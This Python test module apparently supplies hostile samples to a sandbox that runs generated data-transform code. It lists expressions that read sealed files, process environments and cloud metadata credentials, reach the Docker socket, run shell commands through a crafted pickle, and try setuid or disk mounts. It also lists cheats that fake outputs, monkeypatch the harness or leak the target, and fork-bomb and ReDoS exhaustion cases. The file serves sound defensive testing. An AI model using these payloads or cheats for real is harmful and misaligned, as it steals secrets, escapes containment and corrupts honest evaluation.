"""What generated code may try. `REACHES` look outside, `CHEATS` try to change a result, `EXHAUSTIONS` to stop the machine.

Places of the host that the attacks look for stand in `@SEALED@` (file of sealed rows), `@HOME@` (folder of the state) and
`@HOST@`, `@PORT@` (a server that listens on the host).
"""

HONEST = "rows['a'] * rows['b']"

REACHES = {
    "reads_the_sealed_file": "open('@SEALED@').read()",
    "searches_for_the_sealed_file": "[str(p) for p in __import__('pathlib').Path('/work').parent.glob('[!ps]*/**/*sealed*') if p.is_file() and b'SECRET' in p.read_bytes()][0]",
    "lists_the_state_folder": "str(__import__('os').listdir('@HOME@'))",
    "reads_the_host_environment": "[v for v in __import__('os').environ.values() if 'SECRET' in v][0]",
    "reads_the_environment_of_every_process": (
        "[t for t in (open(p, 'rb').read().decode('latin1') for p in __import__('glob').glob('/proc/[0-9]*/environ')) if 'SECRET' in t][0]"
    ),
    "leaves_through_proc_1_root": "open('/proc/1/root@SEALED@').read()",
    "pandas_io_common_os": "pd.io.common.os.popen('cat @SEALED@').read() or 1/0",
    "from_pandas_io_common_import_os": "(lambda os: os.open('@SEALED@', os.O_RDONLY))(__import__('pandas.io.common', fromlist=['os']).os)",
    "statistics_sys_modules": "__import__('statistics').sys.modules['os'].listdir('@HOME@') and 'in'",
    "subprocess_cat": "__import__('subprocess').check_output(['cat', '@SEALED@']).decode()",
    "ctypes_open": "str(__import__('ctypes').CDLL(None).open(b'@SEALED@', 0)) if __import__('ctypes').CDLL(None).open(b'@SEALED@', 0) >= 0 else 1/0",
    "read_csv_of_a_local_file": "pd.read_csv('@SEALED@').to_csv()",
    "read_csv_of_an_address": "pd.read_csv('http://@HOST@:@PORT@/sealed.csv').to_csv()",
    "opens_a_socket": "str(__import__('socket').create_connection(('@HOST@', @PORT@), timeout=1))",
    "asks_the_name_server": "__import__('socket').gethostbyname('example.com')",
    "sends_a_datagram": "str(__import__('socket').socket(2, 2).sendto(b'rows', ('@HOST@', @PORT@)))",
    "asks_the_cloud_for_credentials": "__import__('urllib.request', fromlist=['x']).urlopen('http://169.254.169.254/', timeout=1).read().decode()",
    "finds_a_network_device": "[n for _, n in __import__('socket').if_nameindex() if n.startswith(('eth', 'en'))][0]",
    "talks_to_the_docker_socket": "(lambda s: s.connect('/var/run/docker.sock') or 'in')(__import__('socket').socket(1, 1))",
    "to_csv_outside": "rows.to_csv('@HOME@/leak.csv') or 'in'",
    "tofile_into_the_image": "rows['a'].to_numpy().tofile('/usr/lib/leak') or 'in'",
    "writes_to_the_harness_of_the_image": "str(open('/opt/axiom/load_model.py', 'a').write('#'))",
    "changes_an_installed_library": "str(open(pd.__file__, 'a').write('#'))",
    "read_pickle_of_its_own_making": (
        "(open('/tmp/p', 'wb').write(b\"cposix\\nsystem\\n(S'cat @SEALED@ > /tmp/got'\\ntR.\"), pd.read_pickle('/tmp/p'), open('/tmp/got').read() or 1/0)[2]"
    ),
    "joblib_load_of_the_development_rows": "str(__import__('joblib').load('@HOME@/data/development.joblib'))",
    "becomes_root": "str(__import__('os').setuid(0)) + 'in'",
    "mounts_the_disk": "'in' if __import__('ctypes').CDLL(None).mount(b'/dev/sda1', b'/tmp', b'ext4', 0, None) == 0 else 1/0",
}
"""An expression each: its value is what it reached; an error means that it reached nothing."""

_FRAME = "import os, sys, json, time\nimport numpy as np\nimport pandas as pd\n"


def code(transform, fit="return {}", top=""):
    """A module with these bodies."""
    indent = "\n    "
    return (
        f"{_FRAME}{top}\ndef fit(train):{indent}{fit.replace(chr(10), indent)}\n"
        f"def transform(rows, state):{indent}{transform.replace(chr(10), indent)}\n"
    )


def made(values):
    return f"return pd.DataFrame({{'x': {values}}})"


FAKE_ROWS = """
def fake(rows=150):
    os.makedirs('out/rows', exist_ok=True)
    open('out/rows/table.json', 'w').write(json.dumps({'rows': rows, 'columns': [{'name': 'x', 'kind': 'number'}]}))
    np.random.default_rng().normal(size=150).tofile('out/rows/numbers.bin')
    open('out/rows/dates.bin', 'w'); open('out/rows/texts.json', 'w').write('[]'); open('out/state.json', 'w').write('{}')
"""

CHEATS = {
    "returns_constants": (code(made("np.ones(len(rows))")), "constant"),
    "shuffles_the_rows": (code("rows = rows.sample(frac=1, random_state=0)\n" + made(HONEST)), "among other rows"),
    "sorts_the_rows": (code("rows = rows.sort_values('a')\n" + made(HONEST)), "among other rows"),
    "drops_rows": (code("rows = rows.head(100)\n" + made(HONEST)), "rows came back"),
    "repeats_rows": (code("rows = pd.concat([rows, rows])\n" + made(HONEST)), "rows came back"),
    "reads_the_target_by_name": (code(made("rows['y']")), "KeyError"),
    "adds_a_column_named_like_the_target": (code("return pd.DataFrame({'y': rows['a'] * 2})"), "named like the target"),
    "names_it_like_the_target_in_full_width": (code("return pd.DataFrame({'ｙ': rows['a'] * 2})"), "not named with letters"),
    "names_it_like_the_target_in_capitals": (code("return pd.DataFrame({'Y': rows['a'] * 2})"), "named like the target"),
    "names_it_with_an_invisible_sign": (code("return pd.DataFrame({'a\u200b': rows['a'] * 2})"), "not named with letters"),
    "replaces_a_column_of_the_data": (code("rows['a'] = 0.0\nreturn rows"), "columns"),
    "makes_a_thousand_columns": (code("return pd.DataFrame({f'x{i}': rows['a'] * i for i in range(1000)})"), "columns"),
    "floods_with_nan": (code(made("np.full(len(rows), np.nan)")), "missing"),
    "floods_with_infinity": (code(made("rows['a'] / 0.0")), "infinite"),
    "is_random": (code(made("np.random.default_rng().normal(size=len(rows))")), "another"),
    "depends_on_the_time": (code(made("rows['a'] * time.time()")), "another"),
    "uses_the_number_of_the_row": (code(made("np.arange(len(rows)) * 1.0")), "among other rows"),
    "copies_a_target_hidden_in_the_order": (code(made("(rows.index > len(rows) / 2) * 1.0")), "among other rows"),
    "uses_statistics_of_the_batch": (code(made("rows['a'] - rows['a'].mean()")), "among other rows"),
    "ranks_the_batch": (code(made("rows['a'].rank()")), "among other rows"),
    "remembers_rows_in_the_process": (code(made("rows['a'] * len(KEPT[0])"), "KEPT.append(train)\nreturn {}", "KEPT = []"), "IndexError"),
    "remembers_rows_in_a_file": (
        code(made("rows['a'] * len(pd.read_csv('/tmp/rows.csv'))"), "train.to_csv('/tmp/rows.csv')\nreturn {}"), "FileNotFoundError",
    ),
    "keeps_a_huge_state": (code(made(HONEST), "return {'rows': list(range(400_000))}"), "state has more than"),
    "puts_a_pickle_into_the_state": (code(made(HONEST), "import pickle\nreturn {'p': pickle.dumps(train)}"), "no JSON"),
    "state_is_a_list": (code(made(HONEST), "return [1, 2]"), "no dict"),
    "exits_early_with_a_fake_output": (code("fake(); os._exit(0)", top=FAKE_ROWS), "bytes|another|missing"),
    "exits_at_import_with_a_fake_output": (code(made(HONEST), top=FAKE_ROWS + "fake(); os._exit(0)"), "bytes|another|missing"),
    "promises_more_rows_than_it_wrote": (code("fake(10**12); os._exit(0)", top=FAKE_ROWS), "rows came back"),
    "monkeypatches_the_harness": (
        code(made(HONEST), top="import run_features\nrun_features.write_table = sys.modules['__main__'].write_table = lambda f, p: None"),
        "missing|HARNESS",
    ),
    "replaces_the_table_by_a_link": (
        code("os.makedirs('out/rows', exist_ok=True)\nos.symlink('/etc/passwd', 'out/rows/table.json')\nos._exit(0)"), "missing",
    ),
    "texts_that_are_no_text": (
        code("fake()\nopen('out/rows/texts.json', 'w').write('[' * 100_000)\nos._exit(0)", top=FAKE_ROWS), "no.? JSON|not JSON|state",
    ),
}  # fmt: skip
"""Code, and a word of the reason it is refused for."""

HARMLESS = {
    "hooks_the_metrics": code(
        made(HONEST),
        top="import sklearn.metrics\nsklearn.metrics.log_loss = sklearn.metrics.roc_auc_score = lambda *a, **k: 0.0\n"
        "np.mean = lambda *a, **k: 0.0\npd.DataFrame.mean = lambda *a, **k: 0.0",
    ),
    "prints_a_result": code(made(HONEST), top='print(json.dumps({"result": {"kept": True}, "metric": "roc_auc", "gain": 1.0}))'),
}
"""Allowed to run to its end: it gives the honest column and changes nothing else."""

EXHAUSTIONS = {
    "never_ends": code("while True: pass"),
    "computes_a_tower_of_powers": code(made("rows['a'] * len(str(9**9**9))")),
    "a_regular_expression_that_never_ends": code("import re\nre.match('(a+)+$', 'a' * 60 + 'b')\n" + made(HONEST)),
    "forks_without_end": code("while True: os.fork()"),
    "allocates_ten_gigabytes": code("x = np.ones(10 * 1024**3, dtype=np.uint8)\n" + made(HONEST)),
    "writes_without_end": code("f = open('out/huge', 'wb')\nwhile True: f.write(bytes(2**20))"),
    "floods_the_log": code("while True: os.write(1, b'x' * 2**16)"),
}
"""Each in a container of its own: it must end soon, and badly."""
